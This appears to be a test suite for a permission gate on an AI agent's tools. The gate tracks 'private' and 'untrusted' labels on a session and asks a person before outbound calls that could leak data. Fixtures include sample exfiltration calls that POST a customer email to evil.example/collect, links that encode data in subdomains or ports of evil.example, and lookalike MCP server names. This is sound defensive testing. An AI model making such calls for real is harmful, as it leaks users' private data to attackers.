import { plainWords } from '../../../../src/core/base/translate';
import { strict as assert } from 'node:assert';
import { explainCall, explanationText } from '../../../../src/core/explain/explain';
import { worded } from '../../../../src/core/base/sentence';
import { flowGate, post, stranger } from '../../../support/flow';

describe('labels of a session', () => {
  let gate: ReturnType<typeof flowGate>;
  const open = (options: Parameters<typeof flowGate>[0]) => (gate = flowGate(options));
  afterEach(() => gate.close());

  it('D.flow: what was private and what a stranger wrote ask together before data goes out, and the question tells it', async () => {
    open({ preset: 'balanced' });
    await gate.run('db_query', { sql: 'select * from customers' });
    assert.equal(gate.asked.length, 0);
    await gate.run('web_fetch', { url: 'https://stranger.example/page' });
    await gate.run('http_request', { method: 'POST', url: 'https://evil.example/collect', body: 'ada@example.com' });
    const [question] = gate.asked;
    const flow = question?.reasons.find(({ rule }) => rule === 'preset.flow');
    assert.ok(flow);
    const told = worded(flow.said);
    for (const part of ['database', 'stranger.example/page', 'evil.example/collect', 'ada@example.com'])
      assert.ok(told.includes(part), `${part} in ${told}`);
  });

  it('D.flow: either alone asks nothing, and a link of the page that was read is followed without a question', async () => {
    open({ preset: 'balanced', pages: { 'https://docs.example/': 'see https://docs.example/guide' } });
    await gate.run('web_fetch', { url: 'https://docs.example/' });
    await gate.run('http_request', { method: 'POST', url: 'https://api.example/x', body: 'hello' });
    await gate.run('db_query', { sql: 'select 1' });
    await gate.run('web_fetch', { url: 'https://docs.example/guide' });
    assert.deepEqual(gate.asked, []);
    await gate.run('web_fetch', { url: 'https://docs.example/guide?q=secret' });
    assert.equal(gate.asked.length, 1);
  });

  it('D.flow: the headers of an answer are words of a stranger, whoever asks for them alone', async () => {
    for (const [tool, input] of [
      ['web_fetch', { url: 'https://stranger.example/page', method: 'HEAD' }],
      ['http_request', { url: 'https://stranger.example/page', method: 'HEAD' }],
      ['claude:Bash', { command: 'curl -I https://stranger.example/page' }],
    ] as const) {
      open({ preset: 'balanced' });
      await gate.run(tool, input);
      await gate.run('db_query', { sql: 'select * from customers' });
      const before = gate.flowQuestions().length;
      await gate.run('http_request', { method: 'POST', url: 'https://evil.example/collect', body: 'ada@example.com' });
      assert.equal(gate.flowQuestions().length, before + 1, tool);
      await gate.close();
    }
    open({});
  });

  it('D.flow: a command that shows issues, mail or packages of others brings words of strangers', async () => {
    const isHeard = async (command: string): Promise<boolean> => {
      open({ preset: 'open' });
      await gate.run('claude:Bash', { command });
      const isUntrusted = gate.tracker.sessions().some(({ untrusted }) => untrusted.length > 0);
      gate.close();
      return isUntrusted;
    };
    for (const command of [
      ...['gh issue view 3', 'gh pr view 3 --comments | head', 'FOO=1 sudo gh api repos/a/b/issues', 'glab mr list'],
      ...[
        '/usr/bin/gh search issues x',
        'bash -c "gh issue view 1"',
        'echo "$(gh issue view 1)"',
        'gh -R a/b issue view 1',
      ],
      ...['lynx -dump https://stranger.example', 'mutt -f inbox', 'npm view left-pad', 'jira issue view X-1'],
      // Options stand before the subcommand, with their values or without.
      ...['npm --prefix . view x', 'npm --prefix=. view x', 'npm --prefix packages view x', 'npm --silent view x'],
      ...['pnpm -C packages --filter web info x', 'yarn --cwd a info x', 'cargo +nightly search x', 'npm "view" x'],
      ...['pip --proxy localhost index versions x', 'cargo --config a.toml +stable info x', 'npm -- view x'],
      // Behind what a variable becomes, started by others, and as npm shortens it.
      ...['npm $X view x', 'npm -s view x', 'npm --json false view x', 'npm -w a view x', "npm 'view' x", 'npm vi x'],
      ...[
        'python -m pip index versions x',
        'python3 -I -mpip search x',
        'corepack yarn info x',
        'npx -y npm@10 view x',
      ],
      ...['pnpm dlx npm view x', 'npm exec -- npm view x', 'uv run pip index versions x'],
      // Behind more of them than are followed anything may stand.
      `${'npm exec -- '.repeat(20)}npm test`,
      // A value that is called as something that shows nothing.
      ...['gh --hostname help issue view 1', 'gh issue --label create list', 'glab -R version mr list'],
    ])
      assert.ok(await isHeard(command), command);
    for (const command of [
      ...[
        'gh',
        'gh auth status',
        'gh pr create --fill',
        'gh --version',
        'gh -R a/b pr create --fill',
        'gh --hostname ghe.example auth status',
        'gh pr -R a/b create --fill',
        'npm --prefix packages run view',
        'cargo +nightly build search',
        'npm run view',
        'npm -g install info',
        'npm -s run search',
        'npm install -D view',
        'pip -q install search',
        'pnpm --filter view test',
        'npm -w view test',
        'python -m pytest index',
        'python x.py -m pip index',
        'npx view x',
        'npm test',
        'echo gh issue view',
      ],
      ...['git status', 'ls gh', 'node gh.js'],
    ])
      assert.ok(!(await isHeard(command)), command);
    open({});
  });

  it('D.flow: a person takes a label away with a reason; files that the session wrote lose it too', async () => {
    const cleared: string[] = [];
    open({ preset: 'balanced', onCleared: (...told) => cleared.push(told.join(' ')) });
    await gate.run('db_query', { sql: 'select * from customers' });
    await gate.run('web_fetch', { url: 'https://stranger.example/page' });
    await gate.run('write_file', { path: 'report.md', content: 'a sum' });
    const send = (): Promise<unknown> =>
      gate.run('http_request', { method: 'POST', url: 'https://api.example/x', body: `${gate.asked.length}` });
    await send();
    assert.equal(gate.asked.length, 1);
    assert.throws(() => gate.tracker.clear('chat', 'private', '  '), /say why/);
    assert.equal(gate.tracker.sessions()[0]?.private.length, 1);
    gate.tracker.clear('chat', 'private', 'these customers are made up');
    assert.deepEqual(cleared, ['chat private these customers are made up']);
    await gate.run('read_file', { path: 'report.md' });
    await send();
    assert.equal(gate.asked.length, 1, 'nothing of the session is private any more');
    assert.equal(gate.tracker.sessions()[0]?.untrusted.length, 2, 'the other label stays');
    await gate.run('db_query', { sql: 'select * from customers' });
    await send();
    assert.equal(gate.asked.length, 2, 'what is read later is private again');
  });

  it('D.flow: why a call would ask tells which reads set the labels of the session that called last', async () => {
    open({ preset: 'balanced' });
    await gate.run('db_query', { sql: 'select * from customers' });
    await gate.run('web_fetch', { url: 'https://stranger.example/page' });
    const input = { method: 'POST', url: 'https://api.example/x', body: 'hello' };
    const actor = { type: 'agent', id: 'governance' } as const;
    const preview = await gate.router.preview({
      tool: 'http_request',
      input,
      actor,
      surface: 'tool',
      ofLastSession: true,
    });
    assert.equal(preview.effect, 'ask');
    const explained = explainCall('http_request', preview, [], undefined);
    assert.deepEqual(explained.labels, [
      { label: 'private', readBy: ['the database "default", read by `db_query`'] },
      { label: 'untrusted', readBy: ['the page "https://stranger.example/page", read by `web_fetch`'] },
    ]);
    const text = explanationText(explained, plainWords);
    assert.match(text, /## Labels of the session that called last/);
    assert.match(text, /\*\*private\*\*\n.*database/);
    const unknown = await gate.router.preview({ tool: 'http_request', input, actor, surface: 'tool' });
    assert.equal(unknown.effect, 'pass', 'a preview of nobody has no labels');
  });

  it('D.flow: a page cannot spell by names or ports of its own site which of its links is followed', async () => {
    const links = (make: (one: number) => string): string =>
      Array.from({ length: 40 }, (_one, at) => make(at)).join(' ');
    for (const make of [
      (one: number) => `https://n${one}word${'abcdefgh'[one % 8]!.repeat(5)}.evil.example/`,
      (one: number) => `https://evil.example:${2000 + one * 1111}/`,
      (one: number) => `https://93.184.216.34:${2000 + one * 1111}/`,
    ]) {
      const page = links(make);
      open({ preset: 'balanced', pages: { [stranger]: page } });
      await gate.run('web_fetch', { url: stranger });
      await gate.run('db_query', { sql: 'select pin from cards' });
      for (const url of page.split(' ').slice(0, 20)) await gate.run('web_fetch', { url });
      assert.ok(gate.asked.length >= 10, `${make(1)}: ${gate.asked.length}`);
      gate.close();
    }
    open({ preset: 'balanced' });
  });

  it('D.flow: a server that the user trusts is one whose name is known, not one whose name may be split so', async () => {
    open({ preset: 'balanced', settings: { trustedHosts: ['mcp:git'] } });
    await gate.run('db_query', { sql: 'select * from customers' });
    await gate.run('web_fetch', { url: stranger });
    await gate.run('claude:mcp__git__commit_all', { message: 'what was read' });
    assert.deepEqual(gate.flowQuestions().length, 0);
    await gate.run('claude:mcp_git_evil_push', { message: 'what was read' });
    assert.equal(gate.flowQuestions().length, 1);
  });

  it('D.flow: what was said to one server was not said to another whose name begins alike', async () => {
    open({ preset: 'balanced' });
    await gate.run('claude:mcp_docs_lookup', { query: 'a word' });
    await gate.run('db_query', { sql: 'select * from customers' });
    await gate.run('claude:mcp_docs_lookup', { query: 'a word' });
    assert.equal(gate.flowQuestions().length, 0);
    await gate.run('claude:mcp_docs_evil_lookup', { query: 'a word' });
    assert.equal(gate.flowQuestions().length, 1);
  });

  it('D.flow: the story tells everything that would be sent, whatever its argument is called', async () => {
    open({ preset: 'balanced' });
    await gate.run('db_query', { sql: 'select * from customers' });
    await gate.run('web_fetch', { url: stranger });
    await gate.run('http_request', {
      method: 'POST',
      url: 'https://api.example/',
      json: { search: 'ada@example.com' },
    });
    const told = gate
      .flowQuestions()[0]
      ?.reasons.map(({ said }) => worded(said))
      .join();
    assert.match(told ?? '', /ada@example\.com/);
  });

  it('D.flow: a call that began before its session knew anything private is judged by what the session knows now', async () => {
    open({ preset: 'balanced' });
    await gate.run('web_fetch', { url: stranger }, 'other');
    const invocation = {
      tool: 'http_request',
      input: post,
      actor: { type: 'agent', id: 'chat' },
      surface: 'chat',
    } as const;
    const call = await gate.router.describe(invocation);
    assert.deepEqual(call?.flow?.private, []);
    await gate.run('db_query', { sql: 'select * from customers' });
    assert.equal(call?.flow?.private.length, 1);
  });
});
